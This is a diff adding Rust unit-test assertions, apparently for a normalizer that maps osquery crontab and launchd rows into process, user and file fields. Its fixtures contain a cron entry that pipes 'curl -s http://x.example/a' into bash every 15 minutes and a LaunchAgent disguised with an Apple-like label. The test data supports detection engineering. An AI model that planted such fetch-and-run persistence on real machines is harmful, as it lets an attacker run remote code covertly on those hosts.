@@ -2575,6 +2575,23 @@ mod tests {
         let second = all[1].as_ref().unwrap();
         assert_eq!(second.doc["process"]["name"], "python3");
         assert_eq!(second.position, "document, row 2");
+        // Persistence tables: a crontab line runs through cron as the crontab's owner, a
+        // LaunchAgent through launchd as the user whose Library holds it.
+        let cron = from_json(json!({"name": "crontab", "hostIdentifier": "ci-7", "calendarTime": "x", "action": "added",
+            "columns": {"minute": "*/15", "command": "curl -s http://x.example/a | bash", "path": "/var/spool/cron/crontabs/jenkins"}}), "x").unwrap();
+        assert_eq!(cron.doc["process"]["command_line"], "/bin/sh -c curl -s http://x.example/a | bash");
+        assert_eq!(cron.doc["process"]["name"], "sh");
+        assert_eq!(cron.doc["process"]["parent"]["name"], "cron");
+        assert_eq!(cron.doc["user"]["name"], "jenkins");
+        assert_eq!(cron.doc["file"]["path"], "/var/spool/cron/crontabs/jenkins");
+        let la = from_json(json!({"name": "launchd", "hostIdentifier": "mbp-1", "calendarTime": "x", "action": "added",
+            "columns": {"label": "com.apple.icloud.syncagent", "program": "", "program_arguments": "/bin/zsh -c id",
+                "path": "/Users/tb/Library/LaunchAgents/com.apple.icloud.syncagent.plist", "username": ""}}), "x").unwrap();
+        assert_eq!(la.doc["process"]["executable"], "/bin/zsh");
+        assert_eq!(la.doc["process"]["command_line"], "/bin/zsh -c id");
+        assert_eq!(la.doc["process"]["parent"]["name"], "launchd");
+        assert_eq!(la.doc["user"]["name"], "tb");
+        assert_eq!(la.doc["host"]["os"]["type"], "macos");
     }
 
     #[test]
